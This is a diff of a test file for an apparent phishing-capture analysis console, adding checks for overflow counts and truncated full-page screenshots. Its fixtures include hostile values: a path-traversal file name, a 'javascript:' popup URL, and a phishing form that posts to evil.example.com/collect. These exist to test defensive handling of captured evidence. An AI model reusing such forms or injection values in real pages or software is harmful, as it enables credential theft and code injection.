@@ -52,6 +52,8 @@ describe("captures in the console", () => {
 			downloads: [{ url: `data:text/html,${HOSTILE}`, name: `../${HOSTILE}`, mediaType: HOSTILE, bytes: 3, sha256: "ef".repeat(32), kept: true }],
 			dialogs: [{ kind: HOSTILE, text: HOSTILE }],
 			popups: [`javascript:${HOSTILE}`],
+			more: { ...before.more, requests: 1_200, downloads: 18, popups: 949 },
+			fullPage: { height: 100_000, shown: 8_000, lost: null },
 		});
 	};
 
@@ -77,7 +79,7 @@ describe("captures in the console", () => {
 		let turn = 0;
 		const source = `<title>x</title>\n<form id=phish action="http://evil.example.com/collect">\n${HOSTILE}\n`;
 		const context = captureContext(app.fresh.database, async () => ({
-			result: turn++ === 0 ? visitResult() : hostileVisit(),
+			result: turn++ === 0 ? visitResult({ fullPage: { height: 3_000, shown: 0, lost: "the browser broke down" } }) : hostileVisit(),
 			parts: [
 				{ kind: "screenshot", number: 0, mediaType: "image/png", bytes: picture(320, 200, [240, 240, 240], turn === 1 ? 0 : 50) },
 				{ kind: "full-page", number: 0, mediaType: "image/png", bytes: picture(320, 500, [240, 240, 240]) },
@@ -157,6 +159,19 @@ describe("captures in the console", () => {
 		expect(await (await ask(`/captures/${waiting}`)).text()).toContain("waits for a browser that is free");
 		expect(await (await ask(`/captures/${first}`, { cookie: cookies.analyst ?? "" })).text()).toContain("Capture again");
 		expect((await ask(`/captures/${"0".repeat(32)}`)).status).toBe(404);
+	});
+
+	it("say what there was beyond their lists, and what became of the long picture", async () => {
+		const page = await (await ask(`/captures/${second}`)).text();
+		for (const part of ["all 2 shown, 1,200 more", "1 shown, 18 more; in the zip", "2 shown, 949 more", "19 files offered", "950 windows wanted", "cut at 8,000 of 100,000 pixels"])
+			expect([part, page.includes(part)]).toEqual([part, true]);
+		const plain = await (await ask(`/captures/${first}`)).text();
+		expect(plain).toContain("There is no picture of the full page: the browser broke down.");
+		expect(plain).not.toMatch(/ shown, [\d,]+ more/);
+		expect(await (await ask(`/api/captures/${second}`)).json()).toMatchObject({
+			result: { more: { requests: 1_200, downloads: 18, popups: 949, cookies: 0 }, fullPage: { height: 100_000, shown: 8_000, lost: null } },
+		});
+		expect(await (await ask(`/api/captures/${second}/requests`)).json()).toMatchObject({ more: 1_200, requests: [{}, {}] });
 	});
 
 	it("serve evidence so that no browser runs it", async () => {
